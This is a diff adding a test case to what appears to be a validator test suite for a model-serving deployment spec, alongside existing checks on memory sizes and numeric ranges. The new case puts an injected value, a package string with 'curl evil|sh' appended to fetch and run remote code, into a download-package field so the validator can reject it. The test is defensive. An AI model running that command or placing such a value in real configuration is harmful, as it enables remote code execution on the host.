@@ -187,6 +187,8 @@ case("shm-not-a-quantity", "spec.components[1].sharedMemorySize",
      mutate(lambda d: C(d, 1).update({"sharedMemorySize": "200GB"})))
 case("cache-size-not-a-quantity", "spec.model.cache.create.size",
      mutate(lambda d: d["spec"]["model"]["cache"].update({"create": {"size": "lots"}})))
+case("download-package-not-pinned", "spec.model.download.packages[0]",
+     mutate(lambda d: d["spec"]["model"]["download"].update({"packages": ["huggingface_hub>=1.11;curl evil|sh"]})))
 case("num-speculative-tokens-range", [P + ".speculative.numSpeculativeTokens", D + ".speculative.numSpeculativeTokens"],
      mutate(lambda d: [E(d, i)["speculative"].update({"numSpeculativeTokens": 12}) for i in (1, 2)]))
 case("gpu-memory-utilization-range", P + ".gpuMemoryUtilization",
